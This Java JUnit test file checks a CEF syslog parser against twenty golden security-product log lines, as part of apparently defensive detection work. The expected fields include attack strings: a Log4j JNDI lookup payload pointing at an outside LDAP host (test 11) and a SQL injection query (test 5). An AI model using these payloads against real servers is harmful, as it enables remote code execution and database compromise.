package org.vigil.core.feed.cef;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.vigil.core.feed.Entity;
import org.vigil.core.feed.EntityType;
import org.vigil.core.feed.Event;
import org.vigil.core.feed.EventCategory;
import org.vigil.core.feed.EventIds;
import org.vigil.core.feed.EventSeverity;
import org.vigil.core.feed.FeedFormat;
import org.vigil.core.feed.FeedParser;
import org.vigil.core.feed.FeedParserContract;
import org.vigil.core.feed.GoldenSamples;

/**
 * Golden tests on {@code feeds/cef/samples.log}, one line per record. The samples follow public
 * documentation: the ArcSight CEF implementation standard (lines 2, 17 and 18 are its escaping
 * examples, in RFC 3164 framing with and without PRI), the CEF syslog field tables of Fortinet
 * FortiOS (1), Trend Micro Deep Security (3, 16) and Deep Discovery Email Inspector (12), F5 ASM
 * (5), Imperva SecureSphere (6), CyberArk Vault (7), Check Point Log Exporter (8), PAN-OS threat
 * logs (9), Cortex XDR alerts (10), Infoblox RPZ (14), Forcepoint DLP (15), Zscaler NSS web logs
 * (19) and Trellix ESM (20, rsyslog file format with an RFC 3339 timestamp). Lines 4 and 11 are IDS
 * alerts of Firepower and Snort 3 as forwarded by eStreamer/syslog with an RFC 3164 tag and RFC 5424
 * structured data; 11 carries ATT&CK ids in a labelled custom string and in cat, as some sensors do.
 * All are received at {@link #RECEIVED}, 2026-11-27T08:00:00Z, which decides the years of dates
 * that have none.
 */
class CefParserTest extends FeedParserContract {

    static final List<String> SAMPLES = GoldenSamples.lines("/feeds/cef/samples.log");

    private final CefParser parser = new CefParser();

    @Override
    protected FeedParser parser() {
        return parser;
    }

    @Override
    protected String validRecord() {
        // RFC 5424 without timestamp: cut in half, the record loses its rt and so its event time.
        return SAMPLES.get(6);
    }

    @Override
    protected String wrongTypesRecord() {
        return "CEF:0|Fortinet|Fortigate|v7.2.5|00013|traffic:forward deny|severe|src=ten.twenty.thirty.forty"
                + " dst=203.0.113.80 rt=yesterday";
    }

    private Event sample(int line) {
        String text = SAMPLES.get(line - 1);
        Event event = onlyEvent(text);
        assertThat(event.id()).isEqualTo(EventIds.of(FeedFormat.CEF, text, 0));
        assertThat(event.receivedTime()).isEqualTo(RECEIVED);
        assertThat(event.source()).isEqualTo("test-source");
        return event;
    }

    private void assertGolden(
            int line,
            EventCategory category,
            EventSeverity severity,
            String summary,
            String eventTime,
            List<String> techniques,
            Entity... entities) {
        GoldenSamples.assertGolden(sample(line), eventTime, category, severity, summary, techniques, entities);
    }

    static Entity ip(String value) {
        return new Entity(EntityType.IP, value);
    }

    static Entity host(String value) {
        return new Entity(EntityType.HOST, value);
    }

    static Entity user(String value) {
        return new Entity(EntityType.USER, value);
    }

    static Entity email(String value) {
        return new Entity(EntityType.EMAIL, value);
    }

    static Entity url(String value) {
        return new Entity(EntityType.URL, value);
    }

    static Entity hash(String value) {
        return new Entity(EntityType.FILE_HASH, value);
    }

    static Entity device(String value) {
        return new Entity(EntityType.DEVICE_ID, value);
    }

    @Test
    void theSamplesAreTwentyLines() {
        assertThat(SAMPLES).hasSize(20).allSatisfy(line -> assertThat(line).isNotBlank());
    }

    @Test
    void fortigateDenyInRfc3164WithPriTakesTheSyslogTime() {
        assertGolden(
                1,
                EventCategory.NETWORK,
                EventSeverity.MEDIUM,
                "traffic:forward deny (10.20.30.41 -> 203.0.113.80)",
                "2026-11-27T07:41:12Z",
                List.of(),
                ip("10.20.30.41"),
                ip("203.0.113.80"),
                host("WKS-0415"),
                host("FGT-HQ-01"),
                device("FG100FTK19000123"));
    }

    @Test
    void specExampleWithAnEscapedPipeInTheNameAndNoPri() {
        assertGolden(
                2,
                EventCategory.NETWORK,
                EventSeverity.CRITICAL,
                "detected a | in message (10.0.0.1 -> 1.1.1.1)",
                "2026-09-19T08:26:10Z",
                List.of(),
                ip("10.0.0.1"),
                ip("1.1.1.1"),
                host("host"));
    }

    @Test
    void aDecemberLineReadInNovemberIsFromLastYear() {
        assertGolden(
                3,
                EventCategory.WEB,
                EventSeverity.MEDIUM,
                "Generic Cross Site Scripting(XSS) Prevention (198.51.100.23 -> 10.0.5.12)",
                "2025-12-31T23:59:58Z",
                List.of(),
                ip("198.51.100.23"),
                ip("10.0.5.12"),
                host("web-dmz-02"),
                host("dsm01"));
    }

    @Test
    void firepowerScanBehindASyslogTagTakesRtInEpochMillis() {
        assertGolden(
                4,
                EventCategory.INTRUSION,
                EventSeverity.HIGH,
                "ET SCAN Possible Nmap User-Agent Observed (192.0.2.77 -> 10.0.8.15)",
                "2025-11-03T14:02:55Z",
                List.of(),
                ip("192.0.2.77"),
                ip("10.0.8.15"),
                host("ftd-edge-01.corp.example"),
                host("sensor01"));
    }

    @Test
    void f5SqlInjectionInRfc5424WithStructuredDataTakesRtOverTheSyslogTime() {
        assertGolden(
                5,
                EventCategory.WEB,
                EventSeverity.CRITICAL,
                "SQL-Injection (198.51.100.7 -> 10.0.9.20)",
                "2026-11-27T07:15:02Z",
                List.of(),
                ip("198.51.100.7"),
                ip("10.0.9.20"),
                url("https://shop.example.com/products.php?id=1%27%20OR%201=1--"),
                ip("10.0.9.5"),
                host("bigip-waf-01.corp.example"),
                host("waf-01.corp.example"));
    }

    @Test
    void impervaInRfc5424WithoutStructuredDataHasAWordSeverityAndAnOffsetTime() {
        assertGolden(
                6,
                EventCategory.WEB,
                EventSeverity.HIGH,
                "Web Cross Site Scripting Attack (203.0.113.45 -> 10.0.9.21)",
                "2026-11-27T05:55:41Z",
                List.of(),
                ip("203.0.113.45"),
                ip("10.0.9.21"),
                host("imperva-gw01"));
    }

    @Test
    void cyberArkInRfc5424WithNilTimestampAndHostUsesRt() {
        assertGolden(
                7,
                EventCategory.AUTHENTICATION,
                EventSeverity.HIGH,
                "CPM Verify Password Failed (vault01 -> dc01.corp.example)",
                "2026-11-27T06:55:01Z",
                List.of(),
                host("vault01"),
                host("dc01.corp.example"),
                user("PasswordManager"),
                user("svc_backup"),
                ip("10.1.1.20"));
    }

    @Test
    void bareCheckPointLogWithUnknownSeverityIsInfoAndNetworkByProduct() {
        assertGolden(
                8,
                EventCategory.NETWORK,
                EventSeverity.INFO,
                "https (10.20.30.41 -> 93.184.216.34)",
                "2026-11-27T07:02:44Z",
                List.of(),
                ip("10.20.30.41"),
                ip("93.184.216.34"));
    }

    @Test
    void panOsVirusWithAZonedRtIsMalware() {
        assertGolden(
                9,
                EventCategory.MALWARE,
                EventSeverity.HIGH,
                "THREAT (10.20.30.57 -> 198.51.100.99)",
                "2026-11-27T07:30:12Z",
                List.of(),
                ip("10.20.30.57"),
                ip("198.51.100.99"),
                user("corp\\jdoe"),
                url("cdn.badfiles.example/dl/invoice_2026.zip"),
                hash("5f2b7a0c9d3e4b1f8a6c2d0e9b7f3a1c5e8d2b4f6a0c9e7d3b1f5a8c2e6d0b9f"),
                device("013201001234"));
    }

    @Test
    void cortexXdrAlertTakesEndAndTheTechniqueFromTheMitreLabelledString() {
        assertGolden(
                10,
                EventCategory.INTRUSION,
                EventSeverity.CRITICAL,
                "Credential dumping via LSASS memory access (from WKS-0415)",
                "2026-11-27T07:21:09Z",
                List.of("T1003.001"),
                host("WKS-0415"),
                user("CORP\\mallory"),
                hash("05732e84de58a3cc142535431b3aa04efbe034cc96e837f93c360a6387d8faad"));
    }

    @Test
    void snortLog4jAlertWithSeveralStructuredDataElementsAndTechniquesInCsAndCat() {
        assertGolden(
                11,
                EventCategory.INTRUSION,
                EventSeverity.CRITICAL,
                "SERVER-OTHER Apache Log4j logging remote code execution attempt (45.83.64.1 -> 10.0.8.30)",
                "2026-11-27T07:48:09.412Z",
                List.of("T1190", "T1203"),
                ip("45.83.64.1"),
                ip("10.0.8.30"),
                url("http://10.0.8.30:8080/api/login?user=${jndi:ldap://45.83.64.1:1389/a}"),
                host("ids-core-02"));
    }

    @Test
    void emailMalwareNamesSenderAndEachRecipient() {
        assertGolden(
                12,
                EventCategory.MALWARE,
                EventSeverity.HIGH,
                "MALWARE_DETECTION",
                "2026-11-27T07:05:21Z",
                List.of(),
                email("billing@supplier.example"),
                email("alice@corp.example"),
                email("bob@corp.example"),
                hash("3395856CE81F2B7382DEE72602F798B642F14140"),
                ip("10.1.144.199"),
                host("ddei-01.corp.example"),
                host("ddei-01"),
                device("6B593E17AFB7-40FBBB28-A4CE-0462-A536"));
    }

    @Test
    void windowsLogonFailureWithAYearlessRtInCet() {
        assertGolden(
                13,
                EventCategory.AUTHENTICATION,
                EventSeverity.MEDIUM,
                "An account failed to log on. (from 10.20.30.77)",
                "2026-11-27T07:59:59.250Z",
                List.of(),
                ip("10.20.30.77"),
                host("WKS-0777"),
                user("CORP\\svc_sql"),
                user("administrator"),
                host("dc01.corp.example"),
                host("dc01"));
    }

    @Test
    void cefVersionOneWithIpv6AddressesAndOnlyAStartTime() {
        assertGolden(
                14,
                EventCategory.DNS,
                EventSeverity.HIGH,
                "NXDOMAIN (2001:db8:20::1a7 -> 2001:db8:10::53)",
                "2026-11-27T07:20:05.500Z",
                List.of(),
                ip("2001:db8:20::1a7"),
                ip("2001:db8:10::53"));
    }

    @Test
    void dlpEventWithFullKeyNamesAndTheDeviceTimeZone() {
        assertGolden(
                15,
                EventCategory.DATA,
                EventSeverity.HIGH,
                "DLP Syslog (LT-KMILLER-01 -> mail.partner.example)",
                "2026-11-27T07:10:00Z",
                List.of(),
                host("LT-KMILLER-01"),
                host("mail.partner.example"),
                user("CORP\\kmiller"),
                email("ceo@partner.example"));
    }

    @Test
    void antimalwareEventWithEscapedPathsAndNewlines() {
        assertGolden(
                16,
                EventCategory.MALWARE,
                EventSeverity.MEDIUM,
                "Eicar_test_file",
                "2026-11-27T07:52:10Z",
                List.of(),
                hash("275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F"),
                host("fin-laptop-07"),
                host("dsm01"));
    }

    @Test
    void specExampleWithAnEscapedBackslashInTheHeader() {
        assertGolden(
                17,
                EventCategory.NETWORK,
                EventSeverity.CRITICAL,
                "detected a \\ in packet (10.0.0.1 -> 1.1.1.1)",
                "2026-09-19T08:26:10Z",
                List.of(),
                ip("10.0.0.1"),
                ip("1.1.1.1"),
                host("host"));
    }

    @Test
    void specExampleWithAnUnescapedEqualsSignInTheHeader() {
        assertGolden(
                18,
                EventCategory.NETWORK,
                EventSeverity.CRITICAL,
                "detected a = in message (10.0.0.1 -> 1.1.1.1)",
                "2026-09-19T08:26:10Z",
                List.of(),
                ip("10.0.0.1"),
                ip("1.1.1.1"),
                host("host"));
    }

    @Test
    void zscalerWebBlockWithMultiWordValuesIsWebByItsRequest() {
        assertGolden(
                19,
                EventCategory.WEB,
                EventSeverity.HIGH,
                "Malicious Content (10.20.30.41 -> 192.0.2.200)",
                "2026-11-27T07:44:12Z",
                List.of(),
                ip("10.20.30.41"),
                ip("192.0.2.200"),
                host("dl.bad-updates.example"),
                email("jdoe@corp.example"),
                url("https://dl.bad-updates.example/flash/update.exe"));
    }

    @Test
    void trellixLineWithAnRfc3339SyslogTimestampAndUnderscoreKeys() {
        assertGolden(
                20,
                EventCategory.WEB,
                EventSeverity.LOW,
                "TCP_NC_MISS (192.168.2.16 -> 192.168.2.114)",
                "2026-11-27T07:35:15.546Z",
                List.of(),
                ip("192.168.2.16"),
                ip("192.168.2.114"),
                user("johnsmith"),
                user("Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; .NET CLR 1.1.4322)"),
                ip("192.168.2.5"),
                device("Live BlueCoat ProxySG"));
    }
}
